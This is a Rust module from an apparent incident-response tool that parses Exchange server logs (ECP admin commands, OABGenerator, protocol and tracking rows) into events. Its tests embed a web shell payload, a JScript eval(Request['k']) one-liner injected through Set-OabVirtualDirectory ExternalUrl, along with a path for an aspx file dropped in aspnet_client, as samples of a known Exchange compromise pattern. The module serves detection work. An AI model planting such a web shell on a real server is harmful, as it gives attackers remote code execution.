//! Exchange server lines recognised one by one: the ECP server log (`S:CMD=` admin
//! commands, their parameters read by [`super::cmdline::ecp_params`] and classified by
//! [`super::access`]), the SMTP/IMAP4/POP3 protocol logs (see [`super::protocol`]), the OABGenerator log (`Download failed and temporary file … needs to be
//! removed`), and HttpProxy or message-tracking rows copied without their `#Fields:` header
//! (SIEM rule tests, incident write-ups), read with Exchange's default column order.

use super::http::{Columns, PROXY_FIELDS};
use super::msgtrk::MSGTRK_FIELDS;
use std::sync::LazyLock;

use super::values::{split_csv, time_us, Header};
use super::{Got, Rec};
use crate::events::record::Kind;
use crate::evidence::exports::ExportKind;

/// One line.
pub fn line(text: &str) -> Got {
    if let Some(at) = text.find("S:CMD=") {
        return ecp(text, at);
    }
    if let Some(at) = text.find("Download failed and temporary file") {
        return oab(text, at);
    }
    if let Some(got) = super::protocol::row(text) {
        return got;
    }
    let cells = split_csv(text);
    if cells.len() >= MSGTRK_FIELDS.len() - 1
        && cells
            .get(8)
            .is_some_and(|e| !e.is_empty() && e.bytes().all(|b| b.is_ascii_uppercase()))
    {
        static MSGTRK: LazyLock<Header> = LazyLock::new(|| Header::of(MSGTRK_FIELDS));
        return super::msgtrk::row(&MSGTRK.row(&cells));
    }
    if cells.len() >= PROXY_FIELDS.len() && cells.get(9).is_some_and(|u| u.starts_with('/')) {
        static PROXY: LazyLock<(Header, Columns)> = LazyLock::new(|| {
            let h = Header::of(PROXY_FIELDS);
            let c = Columns::of_header(&h);
            (h, c)
        });
        return super::http::row(ExportKind::HttpProxy, &PROXY.0.row(&cells), &PROXY.1);
    }
    // Another row of a time-stamped Exchange log (OAB generation progress, ECP requests
    // without a command): a known shape without an event.
    if lead_time(text).is_some() {
        return Got::Ignored;
    }
    Got::Unparsed
}

/// The time at the start of a line (`2021-03-03T06:49:51.389Z,…`).
fn lead_time(text: &str) -> Option<i64> {
    time_us(text.split(',').next()?)
}

/// An ECP server log command: `…,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''…''.Identity=…'`.
fn ecp(text: &str, at: usize) -> Got {
    let Some(ts) = lead_time(text) else {
        return Got::Unparsed;
    };
    let rest = &text[at + "S:CMD=".len()..];
    // The command runs to the next `;S:` field (or the line's end); the log doubles quotes.
    let end = rest.find(";S:").unwrap_or(rest.len());
    let cmd = rest[..end]
        .trim_end_matches(';')
        .trim_end_matches(['\'', '"'])
        .replace("''", "'")
        .replace("\"\"", "\"");
    let cmdlet = cmd
        .trim_start_matches("Pipeline.1|")
        .split(['.', ' '])
        .next()
        .unwrap_or("")
        .to_string();
    let mut r = Rec::new(Kind::AdminCommand, ts, "exchange/ecp");
    r.proto = Some("http");
    let cells = split_csv(text);
    if cells.len() >= 4 && !cells[1].contains("S:") {
        r.host = Some(cells[1].clone());
    }
    if let Some(u) = text.find("S:URL=") {
        let url = &text[u + 6..];
        r.detail.url = Some(url[..url.find(";S:").unwrap_or(url.len())].to_string());
    }
    r.detail.op = (!cmdlet.is_empty()).then_some(cmdlet);
    r.detail.params = super::cmdline::ecp_params(&cmd);
    r.detail.cmd = Some(cmd);
    // What the command did to mail, classified as every other reader's commands are.
    Got::Events(super::access::retype(r))
}

/// An OABGenerator line naming a temporary file it had to remove.
fn oab(text: &str, at: usize) -> Got {
    let Some(ts) = lead_time(text) else {
        return Got::Unparsed;
    };
    let rest = &text[at + "Download failed and temporary file".len()..];
    let path = rest
        .split(" needs to be removed")
        .next()
        .unwrap_or("")
        .trim()
        .trim_matches(['\'', '"'])
        .to_string();
    let mut r = Rec::new(Kind::FileWrite, ts, "exchange/oabgenerator");
    r.detail.path = (!path.is_empty()).then_some(path);
    r.detail.note = Some(text[at..].to_string());
    Got::Events(vec![r])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ecp_command_with_script_payload() {
        let l = r#"2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k""],""unsafe"");}</script>''.Identity=''982d48c8'''"#;
        let Got::Events(v) = line(l) else { panic!() };
        assert_eq!(v[0].kind, Kind::AdminCommand);
        assert_eq!(v[0].detail.op.as_deref(), Some("Set-OabVirtualDirectory"));
        let cmd = v[0].detail.cmd.as_deref().unwrap();
        assert!(
            cmd.contains(r#"<script language="JScript" runat="server">"#),
            "{cmd}"
        );
        assert!(cmd.ends_with(".Identity='982d48c8"), "{cmd}");
    }

    #[test]
    fn ecp_commands_are_classified_like_every_other_readers() {
        let l = r"2026-03-04T02:10:11.000Z,EXCH01,'S:CMD=Set-CASMailbox.ImapEnabled=$true.Identity=''ceo@oceanlab.example.org''';S:URL=/ecp/UsersGroups/EditUser.aspx";
        let Got::Events(v) = line(l) else { panic!() };
        assert_eq!(v[0].kind, Kind::AccessSetting);
        assert_eq!(v[0].mailbox.as_deref(), Some("ceo@oceanlab.example.org"));
        assert_eq!(v[0].detail.settings["imap"], "on");
        assert_eq!(v[0].detail.op.as_deref(), Some("Set-CASMailbox"));
    }

    #[test]
    fn oab_temporary_file() {
        let l = r#"2021-03-02T03:14:07.123Z,OABGen,Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\discover.aspx' needs to be removed."#;
        let Got::Events(v) = line(l) else { panic!() };
        assert_eq!(v[0].kind, Kind::FileWrite);
        assert_eq!(
            v[0].detail.path.as_deref(),
            Some(r"C:\inetpub\wwwroot\aspnet_client\discover.aspx")
        );
    }

    #[test]
    fn unknown_lines_are_unparsed() {
        assert!(matches!(line("hello, world"), Got::Unparsed));
    }
}
